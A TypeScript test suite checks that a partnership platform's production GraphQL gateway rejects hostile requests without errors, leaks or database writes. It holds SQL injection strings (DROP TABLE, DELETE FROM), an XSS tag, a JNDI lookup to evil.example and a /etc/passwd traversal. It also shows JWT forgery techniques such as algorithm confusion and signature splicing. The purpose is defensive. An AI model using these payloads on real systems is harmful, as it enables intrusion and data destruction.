import { demoAgencyId } from "@partnership/governance";
import { CallerContextSigner, generateEs256KeyPair, Role } from "@partnership/runtime";
import { SignJWT, importJWK } from "jose";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { DEFAULT_HARDENING, DemoIdentityProvider } from "@partnership/gateway";
import { startTestPlatform, TEST_ISSUER, type TestPlatform } from "../support/platform.js";
import { leaksNothing, postAs, type RawAnswer, send } from "./helpers.js";

/**
 * Hostile input through a production gateway: every case must be answered with a 4xx status or a
 * typed error (never a 500, a crash or a leak of the server's insides), and must write no row in
 * any table of any subgraph (audit rows aside, which record reads).
 */

const TYPED = new Set([
  "BAD_USER_INPUT",
  "FORBIDDEN",
  "FORBIDDEN_BY_SHARING_AGREEMENT",
  "NOT_FOUND",
  "UNAUTHENTICATED",
  "CONFLICT",
  "GRAPHQL_VALIDATION_FAILED",
  "GRAPHQL_PARSE_FAILED",
  "BAD_REQUEST",
  "PAYLOAD_TOO_LARGE",
  "UNSUPPORTED_MEDIA_TYPE",
]);

type Who = "admin" | "procurement" | "training" | "caseworker" | "readOnly" | "dpo";

interface HostileCase {
  name: string;
  send(ctx: Ctx): Promise<RawAnswer>;
}

interface Ctx {
  url: string;
  tokens: Record<Who, string>;
  platform: TestPlatform;
}

const SMBC = demoAgencyId("SMBC");
const WMP = demoAgencyId("WMP");
const HFJ = demoAgencyId("HFJ");

const BIG = "x".repeat(100_000);
const INJECTIONS = [
  "' OR '1'='1",
  "'; DROP TABLE governance.agency; --",
  '" OR ""="',
  "admin'--",
  "1; SELECT pg_sleep(10)",
  "<script>alert(1)</script>",
  "${jndi:ldap://evil.example/a}",
  "{{7*7}}",
  "%",
  "_",
  '{"$gt": ""}',
  "../../../../etc/passwd",
];

/** A mutation, a caller allowed to run it, a valid input, and the kind of each field. */
interface MutationSpec {
  mutation: string;
  inputType: string;
  who: Who;
  table: string;
  valid: () => Record<string, unknown>;
  text: string[];
  enums: string[];
  ids: string[];
  dates: string[];
  ints: string[];
  /** ID fields naming another subgraph's records, which this subgraph cannot look up (federation). */
  foreignIds?: string[];
  /** Tables a created record also writes to (its parts). */
  owned?: string[];
  /** Makes the fields that must be unique unique for `tag`, leaving `keep` as it is. */
  unique: (input: Record<string, unknown>, tag: string, keep?: string) => void;
}

const setUnlessKept = (input: Record<string, unknown>, keep: string | undefined, field: string, value: string) => {
  if (field !== keep) input[field] = value;
};

const MUTATIONS: MutationSpec[] = [
  {
    mutation: "createAgency",
    inputType: "CreateAgencyInput",
    who: "admin",
    table: "governance.agency",
    valid: () => ({ name: "Hostile Test Agency", shortName: "HOSTILE", sector: "NGO", firstResponder: false }),
    unique: (input, tag, keep) => {
      setUnlessKept(input, keep, "shortName", `H${tag}`.replace(/[^A-Za-z0-9]/g, "").slice(0, 20));
      setUnlessKept(input, keep, "name", `Hostile agency ${tag}`);
    },
    text: ["name", "shortName"],
    enums: ["sector"],
    ids: [],
    dates: [],
    ints: [],
  },
  {
    mutation: "createPerson",
    inputType: "CreatePersonInput",
    who: "admin",
    table: "governance.person",
    valid: () => ({ name: "Hostile Person", email: "hostile.person@example.org", jobTitle: "Tester", agencyId: SMBC }),
    unique: (input, tag, keep) => setUnlessKept(input, keep, "email", `hostile.${tag}@example.org`.toLowerCase()),
    text: ["name", "email", "jobTitle"],
    enums: [],
    ids: ["agencyId"],
    dates: [],
    ints: [],
  },
  {
    mutation: "createSupplier",
    inputType: "CreateSupplierInput",
    who: "procurement",
    table: "procurement.supplier",
    valid: () => ({
      name: "Hostile Supplies Ltd",
      companyNumber: "99887766",
      sector: "CAR_WASH",
      turnoverBand: "UNDER_36M",
    }),
    unique: (input, tag, keep) => {
      let hash = 0;
      for (const char of tag) hash = (hash * 31 + char.charCodeAt(0)) % 10_000_000;
      setUnlessKept(input, keep, "companyNumber", `7${String(hash).padStart(7, "0")}`);
      setUnlessKept(input, keep, "name", `Hostile Supplies ${tag}`);
    },
    text: ["name", "companyNumber", "website"],
    enums: ["sector", "turnoverBand"],
    ids: [],
    dates: [],
    ints: [],
  },
  {
    mutation: "createCourse",
    inputType: "CreateCourseInput",
    who: "training",
    table: "training.course",
    valid: () => ({
      title: "Hostile course",
      level: "LEVEL_1_AWARENESS",
      format: "CLASSROOM",
      providerAgencyId: SMBC,
      durationMinutes: 60,
      validityMonths: 12,
      audience: "Everyone",
    }),
    text: ["title", "audience"],
    enums: ["level", "format"],
    ids: ["providerAgencyId"],
    dates: [],
    ints: ["durationMinutes", "validityMonths"],
    foreignIds: ["providerAgencyId"],
    unique: (input, tag, keep) => setUnlessKept(input, keep, "title", `Hostile course ${tag}`),
  },
  {
    mutation: "recordConcern",
    inputType: "RecordConcernInput",
    who: "caseworker",
    table: "cases.concern",
    valid: () => ({
      receivedOn: "2025-01-10",
      source: "PUBLIC",
      exploitationTypes: ["LABOUR"],
      participatingAgencyIds: [WMP],
      // The caller's own agency: an agency records only what it did itself.
      referringAgencyId: SMBC,
      intelligenceSummary: "Workers collected from the address before dawn.",
      // Premises not known: no area to look up, so the input stays a constant.
      location: { type: "NOT_KNOWN" },
    }),
    text: ["intelligenceSummary"],
    enums: ["source"],
    ids: ["referringAgencyId"],
    dates: ["receivedOn"],
    ints: [],
    foreignIds: ["referringAgencyId"],
    // The concern announced in the outbox (CONCERN_CREATED), in the same transaction.
    owned: ["cases.location", "cases.concern_change", "cases.concern_reference_counter", "cases.outbox_event"],
    unique: () => {},
  },
  {
    mutation: "createSharingAgreement",
    inputType: "CreateSharingAgreementInput",
    who: "admin",
    table: "governance.sharing_agreement",
    valid: () => ({
      reference: "ISA-HOSTILE-01",
      title: "Hostile agreement",
      purpose: "A purpose that is long enough to be accepted",
      lawfulBasis: "UK GDPR Art. 6(1)(e)",
      startDate: "2026-04-01",
      endDate: "2027-03-31",
      partyAgencyIds: [WMP, HFJ],
      grants: [{ recipientSector: "NGO", categories: ["SAFEGUARDING"] }],
    }),
    text: ["reference", "title", "purpose", "lawfulBasis"],
    owned: [
      "governance.agreement_party",
      "governance.agreement_grant",
      "governance.agreement_event",
      "governance.agreement_retention",
    ],
    unique: (input, tag, keep) => setUnlessKept(input, keep, "reference", `ISA-H-${tag}`.slice(0, 40)),
    enums: [],
    ids: [],
    dates: ["startDate", "endDate"],
    ints: [],
  },
  {
    mutation: "recordSubjectRequest",
    inputType: "RecordSubjectRequestInput",
    who: "dpo",
    table: "governance.subject_request",
    valid: () => ({
      kind: "ACCESS",
      subject: "A former delegate, asking by email",
      search: { name: "Hostile Subject" },
      receivedOn: "2026-12-01",
      madeToAgencyId: SMBC,
    }),
    text: ["subject"],
    enums: ["kind"],
    ids: ["madeToAgencyId"],
    dates: ["receivedOn"],
    ints: [],
    unique: () => {},
  },
  {
    mutation: "registerMachineClient",
    inputType: "RegisterMachineClientInput",
    who: "admin",
    table: "governance.machine_client",
    valid: () => ({
      issuer: TEST_ISSUER,
      clientId: "hostile-client",
      agencyId: SMBC,
      name: "SMBC case system",
      roles: ["CASEWORKER"],
    }),
    // One active registration per (issuer, client id).
    unique: (input, tag, keep) =>
      setUnlessKept(input, keep, "clientId", `hostile-${tag}`.replace(/[^A-Za-z0-9-]/g, "").slice(0, 60)),
    text: ["issuer", "clientId", "name"],
    enums: ["roles"],
    ids: ["agencyId"],
    dates: [],
    ints: [],
  },
  {
    mutation: "registerWebhook",
    inputType: "RegisterWebhookInput",
    who: "admin",
    table: "governance.webhook_subscription",
    valid: () => ({ agencyId: SMBC, url: "https://partner.example.org/webhooks", eventTypes: ["CONCERN_CREATED"] }),
    // The URL is not free text: an injection string in it is refused as not a URL (webhooks.test.ts).
    text: [],
    enums: ["eventTypes"],
    ids: ["agencyId"],
    dates: [],
    ints: [],
    unique: () => {},
  },
];

const mutate = (spec: MutationSpec, input: unknown) => ({
  query: `mutation Hostile($input: ${spec.inputType}!) { ${spec.mutation}(input: $input) { id } }`,
  variables: { input },
});
const as = (who: Who, payload: unknown, headers: Record<string, string> = {}): HostileCase["send"] => {
  return (ctx) => postAs(ctx.url, ctx.tokens[who], payload, headers);
};

/** Invalid variants of every field of every mutation: each must be refused and write nothing. */
function writeCases(): HostileCase[] {
  const cases: HostileCase[] = [];
  for (const spec of MUTATIONS) {
    const variant = (label: string, change: (input: Record<string, unknown>) => void) => {
      const input = spec.valid();
      change(input);
      cases.push({ name: `${spec.mutation}: ${label}`, send: as(spec.who, mutate(spec, input)) });
    };
    for (const field of spec.text) {
      variant(`${field} of 100,000 characters`, (input) => (input[field] = BIG));
      variant(`${field} with a NUL byte`, (input) => (input[field] = "abc\u0000def"));
      variant(`${field} as a number`, (input) => (input[field] = 12345));
      variant(`${field} as an object`, (input) => (input[field] = { $ne: null }));
    }
    for (const field of spec.enums) {
      variant(`${field} not a value of its enum`, (input) => (input[field] = "NOT_A_VALUE"));
      variant(`${field} in lower case`, (input) => (input[field] = String(input[field]).toLowerCase()));
      variant(`${field} with an injection string`, (input) => (input[field] = "NGO' OR '1'='1"));
    }
    for (const field of spec.ids) {
      variant(`${field} not a UUID`, (input) => (input[field] = "not-a-uuid"));
      variant(`${field} an injection string`, (input) => (input[field] = "' OR 1=1 --"));
      if (!spec.foreignIds?.includes(field)) {
        variant(`${field} of no record`, (input) => (input[field] = "00000000-0000-4000-8000-000000000000"));
      }
      variant(`${field} of 10,000 characters`, (input) => (input[field] = "a".repeat(10_000)));
    }
    for (const field of spec.dates) {
      variant(`${field} 30 February`, (input) => (input[field] = "2026-02-30"));
      variant(`${field} in day/month/year`, (input) => (input[field] = "31/12/2026"));
      variant(`${field} month 13`, (input) => (input[field] = "2026-13-01"));
      variant(`${field} year 275760`, (input) => (input[field] = "275760-09-13"));
    }
    for (const field of spec.ints) {
      variant(`${field} negative`, (input) => (input[field] = -5));
      variant(`${field} beyond 32 bits`, (input) => (input[field] = 2 ** 40));
      variant(`${field} a fraction`, (input) => (input[field] = 1.5));
    }
    variant("a required field missing", (input) => delete input[Object.keys(input)[0]!]);
    variant("an unknown field", (input) => (input.isAdmin = true));
    cases.push({
      name: `${spec.mutation}: the input inline with a wrong literal type`,
      send: as(spec.who, { query: `mutation { ${spec.mutation}(input: 42) { id } }` }),
    });
    cases.push({
      name: `${spec.mutation}: by a READ_ONLY user`,
      send: as("readOnly", mutate(spec, spec.valid())),
    });
    const aliases = Array.from(
      { length: DEFAULT_HARDENING.maxAliases + 1 },
      (_, i) => `a${i}: ${spec.mutation}(input: $input) { id }`,
    );
    cases.push({
      name: `${spec.mutation}: ${aliases.length} aliased copies in one operation`,
      send: as(spec.who, {
        query: `mutation Flood($input: ${spec.inputType}!) { ${aliases.join(" ")} }`,
        variables: { input: spec.valid() },
      }),
    });
  }
  const agreement = MUTATIONS.find((m) => m.mutation === "createSharingAgreement")!;
  const agreementVariant = (label: string, change: (input: Record<string, any>) => void) => {
    const input = agreement.valid();
    change(input);
    return { name: `createSharingAgreement: ${label}`, send: as("admin", mutate(agreement, input)) };
  };
  cases.push(
    agreementVariant("10,000 party agencies", (input) => (input.partyAgencyIds = Array(10_000).fill(WMP))),
    agreementVariant("2,000 grants", (input) => (input.grants = Array(2_000).fill(input.grants[0]))),
    agreementVariant("a party id that is an injection string", (input) =>
      input.partyAgencyIds.push("'; DELETE FROM governance.agency; --"),
    ),
    agreementVariant("a category not in DataCategory", (input) => (input.grants[0].categories = ["EVERYTHING"])),
    agreementVariant("an end date before its start", (input) => (input.endDate = "2025-01-01")),
    agreementVariant("no parties", (input) => (input.partyAgencyIds = [])),
  );
  return cases;
}

/** Tables whose row count changed, other than `tables`. */
function changedOutside(before: Record<string, number>, after: Record<string, number>, tables: string[]): string[] {
  return Object.keys(after).filter((name) => !tables.includes(name) && Number(after[name]) !== Number(before[name]));
}

function nestedQuery(depth: number): string {
  let selection = "id";
  for (let level = 0; level < depth; level++) {
    selection = level % 2 === 0 ? `agency { ${selection} }` : `people(first: 1) { nodes { ${selection} } }`;
  }
  return `{ people(first: 1) { nodes { ${selection} } } }`;
}

/** Reads that must be refused (limits, bad arguments). */
function readCases(): HostileCase[] {
  const cases: HostileCase[] = [];
  for (const depth of [DEFAULT_HARDENING.maxDepth + 1, 25, 200]) {
    cases.push({ name: `nesting ${depth} levels deep`, send: as("admin", { query: nestedQuery(depth) }) });
  }
  cases.push({
    name: "deep nesting hidden in fragments",
    send: as("admin", {
      query: `{ people(first: 1) { nodes { ...A } } }
        fragment A on Person { agency { people(first: 1) { nodes { ...B } } } }
        fragment B on Person { agency { people(first: 1) { nodes { ...C } } } }
        fragment C on Person { agency { people(first: 1) { nodes { ...D } } } }
        fragment D on Person { agency { people(first: 1) { nodes { id } } } }`,
    }),
  });
  cases.push({
    name: "a fragment cycle",
    send: as("admin", {
      query:
        "{ people(first: 1) { nodes { ...A } } } fragment A on Person { agency { people(first: 1) { nodes { ...A } } } }",
    }),
  });
  for (const count of [DEFAULT_HARDENING.maxAliases + 1, 500, 5_000]) {
    const aliases = Array.from({ length: count }, (_, i) => `a${i}: agencies(first: 100) { totalCount }`).join(" ");
    cases.push({ name: `${count} aliases`, send: as("admin", { query: `{ ${aliases} }` }) });
  }
  cases.push({
    name: "a directive flood",
    send: as("admin", { query: `{ __typename ${"@skip(if: false) ".repeat(500)} }` }),
  });
  for (const first of [1_000, 100_000, -1, 0, 2 ** 31]) {
    cases.push({
      name: `people(first: ${first})`,
      send: as("admin", { query: `{ people(first: ${first}) { totalCount } }` }),
    });
  }
  cases.push({
    name: "first as a string",
    send: as("admin", { query: "query($n: Int!) { people(first: $n) { totalCount } }", variables: { n: "ten" } }),
  });
  for (const after of ["garbage", "' OR 1=1 --", Buffer.from('{"offset":-1}').toString("base64"), "A".repeat(5_000)]) {
    cases.push({
      name: `a malformed cursor (${after.slice(0, 20)})`,
      send: as("admin", {
        query: "query($a: String) { people(first: 5, after: $a) { totalCount } }",
        variables: { a: after },
      }),
    });
  }
  for (const [from, to] of [
    ["2026-02-30", "2026-03-31"],
    ["yesterday", "today"],
    ["2026-03-31", "2019-04-01"],
  ]) {
    cases.push({
      name: `trainingStatistics(from: ${from}, to: ${to})`,
      send: as("admin", {
        query:
          "query($from: LocalDate!, $to: LocalDate!) { trainingStatistics(from: $from, to: $to) { qualifiedFirstResponders } }",
        variables: { from, to },
      }),
    });
  }
  cases.push({
    name: "an unknown variable type",
    send: as("admin", { query: "query($x: Hack!) { __typename }", variables: { x: 1 } }),
  });
  cases.push({
    name: "two operations and no operationName",
    send: as("admin", { query: "query A { __typename } mutation B { __typename }" }),
  });
  cases.push({
    name: "a subscription",
    send: as("admin", { query: "subscription { agencies { id } }" }),
  });
  return cases;
}

/** Requests that never become GraphQL: broken bodies, wrong content types, methods, oversized headers. */
function httpCases(): HostileCase[] {
  const raw = (name: string, body: string | Buffer, contentType?: string, method = "POST"): HostileCase => ({
    name,
    send: (ctx) =>
      send(ctx.url, {
        method,
        body,
        headers: {
          authorization: `Bearer ${ctx.tokens.admin}`,
          ...(contentType ? { "content-type": contentType } : {}),
        },
      }),
  });
  const mutation = JSON.stringify(mutate(MUTATIONS[0]!, MUTATIONS[0]!.valid()));
  return [
    raw("malformed JSON: an open brace", "{", "application/json"),
    raw("malformed JSON: cut short", mutation.slice(0, mutation.length / 2), "application/json"),
    raw("malformed JSON: trailing garbage", `${mutation}}}}`, "application/json"),
    raw("malformed JSON: single quotes", "{'query': '{ __typename }'}", "application/json"),
    raw("JSON null", "null", "application/json"),
    raw("a JSON number", "42", "application/json"),
    raw("a JSON string", '"mutation { createAgency }"', "application/json"),
    raw("an empty batch", "[]", "application/json"),
    raw("a batch of two mutations", `[${mutation},${mutation}]`, "application/json"),
    raw("query as a number", '{"query": 5}', "application/json"),
    raw("variables as a string", JSON.stringify({ query: "{ __typename }", variables: "x" }), "application/json"),
    raw("an empty body", "", "application/json"),
    raw("invalid UTF-8", Buffer.from([0x7b, 0x22, 0xff, 0xfe, 0x22, 0x7d]), "application/json"),
    raw("a deeply nested JSON body", `${"[".repeat(5_000)}${"]".repeat(5_000)}`, "application/json"),
    raw("UTF-16 charset", mutation, "application/json; charset=utf-16"),
    raw("text/plain (a CSRF-style simple request)", mutation, "text/plain"),
    raw("a form post", `query=${encodeURIComponent(mutation)}`, "application/x-www-form-urlencoded"),
    raw(
      "multipart",
      `--b\r\nContent-Disposition: form-data; name="operations"\r\n\r\n${mutation}\r\n--b--`,
      "multipart/form-data; boundary=b",
    ),
    raw("application/xml", "<query>mutation</query>", "application/xml"),
    raw(
      "application/graphql",
      'mutation { createAgency(input: {name: "X", shortName: "XX", sector: NGO}) { id } }',
      "application/graphql",
    ),
    raw("no content type", mutation),
    raw("a PUT", mutation, "application/json", "PUT"),
    raw("a DELETE", mutation, "application/json", "DELETE"),
    raw("a PATCH", mutation, "application/json", "PATCH"),
    {
      name: "a mutation over GET (with the preflight header)",
      send: (ctx) =>
        send(
          `${ctx.url}?query=${encodeURIComponent('mutation { createAgency(input: {name: "Via GET", shortName: "VIAGET", sector: NGO}) { id } }')}`,
          {
            method: "GET",
            headers: { authorization: `Bearer ${ctx.tokens.admin}`, "apollo-require-preflight": "true" },
          },
        ),
    },
    {
      name: "a 64 KB header",
      send: (ctx) => postAs(ctx.url, ctx.tokens.admin, JSON.parse(mutation), { "x-padding": "p".repeat(65_536) }),
    },
  ];
}

/** Forged caller contexts and identity headers, and abused tokens, each on a mutation. */
function identityCases(): HostileCase[] {
  const mutation = mutate(MUTATIONS[0]!, MUTATIONS[0]!.valid());
  const forgedContext = async (ctx: Ctx, key: "attacker" | "gateway") => {
    const signer =
      key === "gateway"
        ? await CallerContextSigner.fromJwk(ctx.platform.keys.callerContext.privateJwk)
        : await CallerContextSigner.fromJwk((await generateEs256KeyPair("attacker")).privateJwk);
    return signer.sign({
      userId: "attacker",
      agencyId: SMBC,
      sector: "LOCAL_AUTHORITY",
      roles: [Role.PARTNERSHIP_ADMIN],
      grants: [],
      requestId: "forged",
      operation: null,
    } as never);
  };
  const issue = async (ctx: Ctx, claims: { userId: string; agencyId: string; roles: string[] }, expiresIn?: string) =>
    (await DemoIdentityProvider.fromJwk(ctx.platform.keys.users.privateJwk, undefined, TEST_ISSUER)).issue(
      { ...claims, name: "Hostile", roles: claims.roles as Role[] },
      expiresIn,
    );
  const post =
    (token: string | null, headers: Record<string, string> = {}) =>
    (ctx: Ctx) =>
      postAs(ctx.url, token, mutation, headers);
  return [
    {
      name: "READ_ONLY user with an attacker-signed caller context claiming PARTNERSHIP_ADMIN",
      send: async (ctx) => post(ctx.tokens.readOnly, { "x-caller-context": await forgedContext(ctx, "attacker") })(ctx),
    },
    {
      name: "READ_ONLY user with a gateway-signed caller context claiming PARTNERSHIP_ADMIN (replayed)",
      send: async (ctx) => post(ctx.tokens.readOnly, { "x-caller-context": await forgedContext(ctx, "gateway") })(ctx),
    },
    {
      name: "no token, with a gateway-signed caller context",
      send: async (ctx) => post(null, { "x-caller-context": await forgedContext(ctx, "gateway") })(ctx),
    },
    {
      name: "READ_ONLY user with identity headers (x-user-id, x-agency-id, x-roles, x-forwarded-for)",
      send: (ctx) =>
        post(ctx.tokens.readOnly, {
          "x-user-id": "admin",
          "x-agency-id": SMBC,
          "x-roles": "PARTNERSHIP_ADMIN",
          "x-forwarded-for": "127.0.0.1",
          "x-request-id": "' OR 1=1 --",
        })(ctx),
    },
    { name: "an empty bearer token", send: post(null, { authorization: "Bearer " }) },
    { name: "Basic authentication", send: post(null, { authorization: "Basic YWRtaW46YWRtaW4=" }) },
    { name: "a 8 KB garbage token", send: post("e".repeat(8_192)) },
    {
      name: "a token in the query string",
      send: (ctx) => postAs(`${ctx.url}?access_token=${ctx.tokens.admin}`, null, mutation),
    },
    {
      name: "a token with the signature of another token",
      send: (ctx) => {
        const [head, body] = ctx.tokens.admin.split(".");
        const [, , signature] = ctx.tokens.readOnly.split(".");
        return post(`${head}.${body}.${signature}`)(ctx);
      },
    },
    {
      name: "an HS256 token keyed with the public key (algorithm confusion)",
      send: async (ctx) => {
        const secret = new TextEncoder().encode(JSON.stringify(ctx.platform.keys.users.publicJwk));
        const token = await new SignJWT({ agency: SMBC, roles: [Role.PARTNERSHIP_ADMIN] })
          .setProtectedHeader({ alg: "HS256" })
          .setSubject("attacker")
          .setIssuedAt()
          .setExpirationTime("1h")
          .sign(secret);
        return post(token)(ctx);
      },
    },
    {
      name: "a validly signed token for an agency not in the directory",
      send: async (ctx) =>
        post(
          await issue(ctx, {
            userId: "ghost",
            agencyId: "00000000-0000-4000-8000-000000000000",
            roles: [Role.PARTNERSHIP_ADMIN],
          }),
        )(ctx),
    },
    {
      name: "a validly signed token with an invented role",
      send: async (ctx) => post(await issue(ctx, { userId: "root", agencyId: SMBC, roles: ["SUPERUSER"] }))(ctx),
    },
    {
      name: "a validly signed token with an agency claim that is an injection string",
      send: async (ctx) =>
        post(await issue(ctx, { userId: "x", agencyId: "' OR 1=1 --", roles: [Role.PARTNERSHIP_ADMIN] }))(ctx),
    },
    {
      name: "an expired token",
      send: async (ctx) => {
        const key = await importJWK(ctx.platform.keys.users.privateJwk, "ES256");
        const token = await new SignJWT({ agency: SMBC, roles: [Role.PARTNERSHIP_ADMIN] })
          .setProtectedHeader({ alg: "ES256", kid: ctx.platform.keys.users.privateJwk.kid })
          .setSubject("late")
          .setIssuer("partnership-demo-idp")
          .setAudience("partnership-graph")
          // A token that expired an hour ago: expiry is wall-clock time (jose checks it against it).
          .setIssuedAt("2 hours ago")
          .setExpirationTime("1 hour ago")
          .sign(key);
        return post(token)(ctx);
      },
    },
  ];
}

/** Injection strings where text is looked up or searched: answered, matching nothing, writing nothing. */
function searchCases(): Array<HostileCase & { empty: (data: any) => boolean }> {
  const cases: Array<HostileCase & { empty: (data: any) => boolean }> = [];
  for (const payload of INJECTIONS) {
    const short = payload.slice(0, 24);
    cases.push(
      {
        name: `people search for ${short}`,
        send: as("admin", {
          query: "query($s: String) { people(first: 100, filter: { search: $s }) { totalCount } }",
          variables: { s: payload },
        }),
        empty: (data) => data?.people?.totalCount === 0,
      },
      {
        name: `agencies search for ${short}`,
        send: as("admin", {
          query: "query($s: String) { agencies(first: 100, filter: { search: $s }) { totalCount } }",
          variables: { s: payload },
        }),
        empty: (data) => data?.agencies?.totalCount === 0,
      },
      {
        name: `suppliers search for ${short}`,
        send: as("procurement", {
          query: "query($s: String) { suppliers(first: 100, filter: { search: $s }) { totalCount } }",
          variables: { s: payload },
        }),
        empty: (data) => data?.suppliers?.totalCount === 0,
      },
      {
        name: `person by email ${short}`,
        send: as("admin", { query: "query($e: String) { person(email: $e) { id } }", variables: { e: payload } }),
        empty: (data) => data === null || data === undefined || data.person === null,
      },
      {
        name: `agency by id ${short}`,
        send: as("admin", { query: "query($id: ID!) { agency(id: $id) { name } }", variables: { id: payload } }),
        empty: (data) => data?.agency === null,
      },
      {
        name: `supplier by company number ${short}`,
        send: as("procurement", {
          query: "query($n: String!) { supplierByCompanyNumber(companyNumber: $n) { id } }",
          variables: { n: payload },
        }),
        empty: (data) => data?.supplierByCompanyNumber === null,
      },
    );
  }
  return cases;
}

describe("hostile input (production gateway)", () => {
  let t: TestPlatform;
  let ctx: Ctx;
  let countRows: () => Promise<Record<string, number>>;

  beforeAll(async () => {
    t = await startTestPlatform({ production: true, hardening: { rateLimitRequests: 0 } });
    const tables = await t.database.query<{ name: string }>(
      `SELECT table_schema || '.' || table_name AS name FROM information_schema.tables
        WHERE table_schema NOT IN ('pg_catalog', 'information_schema', 'public') AND table_type = 'BASE TABLE'
          AND table_name NOT IN ('audit_event', 'migrations') ORDER BY 1`,
    );
    expect(tables.length).toBeGreaterThan(10);
    // json_build_object takes at most 100 arguments (50 tables): one object per 40 tables, merged.
    const objects: string[] = [];
    for (let i = 0; i < tables.length; i += 40)
      objects.push(
        `jsonb_build_object(${tables
          .slice(i, i + 40)
          .map(({ name }) => `'${name}', (SELECT count(*) FROM ${name})`)
          .join(", ")})`,
      );
    const sql = `SELECT ${objects.join(" || ")} AS counts`;
    countRows = async () => (await t.database.query<{ counts: Record<string, number> }>(sql))[0]!.counts;
    ctx = {
      url: t.gatewayUrl,
      platform: t,
      tokens: {
        admin: (await t.as("SMBC", Role.PARTNERSHIP_ADMIN)).token!,
        procurement: (await t.as("SMBC", Role.PROCUREMENT_OFFICER)).token!,
        training: (await t.as("SMBC", Role.TRAINING_ADMIN)).token!,
        caseworker: (await t.as("SMBC", Role.COORDINATOR)).token!,
        readOnly: (await t.as("SMBC", Role.READ_ONLY)).token!,
        dpo: (await t.as("SMBC", Role.DATA_PROTECTION_OFFICER)).token!,
      },
    };
  });
  afterAll(async () => {
    await t?.stop();
  });

  const refused = [...writeCases(), ...readCases(), ...httpCases(), ...identityCases()];

  it("has at least 100 cases that must be refused", () => {
    expect(refused.length).toBeGreaterThanOrEqual(100);
  });

  describe("refused: a 4xx status or a typed error, never a 500, and no row written", () => {
    for (const hostile of refused) {
      it(hostile.name, async () => {
        const before = await countRows();
        const answer = await hostile.send(ctx);
        expect(answer.status, answer.text.slice(0, 300)).toBeLessThan(500);
        if (answer.status < 400) {
          const codes = (answer.json?.errors ?? []).map((error) => error.extensions?.code);
          expect(codes.length, answer.text.slice(0, 300)).toBeGreaterThan(0);
          for (const code of codes) expect(TYPED, answer.text.slice(0, 300)).toContain(code);
        }
        expect(leaksNothing(answer), answer.text.slice(0, 300)).toBe(true);
        expect(await countRows()).toEqual(before);
      });
    }
  });

  describe("injection strings in searches and look-ups: answered, matching nothing, writing nothing", () => {
    for (const hostile of searchCases()) {
      it(hostile.name, async () => {
        const before = await countRows();
        const answer = await hostile.send(ctx);
        expect(answer.status, answer.text.slice(0, 300)).toBe(200);
        expect(answer.json?.errors ?? [], answer.text.slice(0, 300)).toEqual([]);
        expect(hostile.empty(answer.json?.data), answer.text.slice(0, 300)).toBe(true);
        expect(await countRows()).toEqual(before);
      });
    }
  });

  describe("injection strings in every text input of every mutation: refused, or stored verbatim as text", () => {
    for (const spec of MUTATIONS) {
      for (const field of spec.text) {
        it(`${spec.mutation}.${field}`, async () => {
          for (const [index, payload] of INJECTIONS.entries()) {
            const input = spec.valid();
            // Keep values that must be unique unique, so only the payload decides the outcome.
            spec.unique(input, `${field}${index}`, field);
            const value = field === "purpose" ? `${payload} — and enough text for the minimum length` : payload;
            input[field] = value;
            const before = await countRows();
            const answer = await postAs(ctx.url, ctx.tokens[spec.who], {
              query: `mutation($input: ${spec.inputType}!) { ${spec.mutation}(input: $input) { id ${field === "website" ? "" : field} } }`,
              variables: { input },
            });
            expect(answer.status, answer.text.slice(0, 300)).toBeLessThan(500);
            const after = await countRows();
            const created = answer.json?.data?.[spec.mutation];
            if (created) {
              if (field !== "website") expect(created[field]).toBe(value);
              expect(after[spec.table]).toBe(before[spec.table]! + 1);
              expect(changedOutside(before, after, [spec.table, ...(spec.owned ?? [])]), payload).toEqual([]);
            } else {
              expect(answer.json?.errors?.[0]?.extensions?.code, answer.text.slice(0, 300)).toBe("BAD_USER_INPUT");
              expect(leaksNothing(answer)).toBe(true);
              expect(after, payload).toEqual(before);
            }
          }
        });
      }
    }
  });

  it("the valid inputs the hostile cases start from are accepted (each case failed for its own reason)", async () => {
    for (const spec of MUTATIONS) {
      const input = spec.valid();
      spec.unique(input, "base");
      const answer = await postAs(ctx.url, ctx.tokens[spec.who], mutate(spec, input));
      expect(answer.json?.errors, `${spec.mutation}: ${answer.text.slice(0, 300)}`).toBeUndefined();
      expect(answer.json?.data?.[spec.mutation]?.id).toBeTruthy();
    }
  });
});
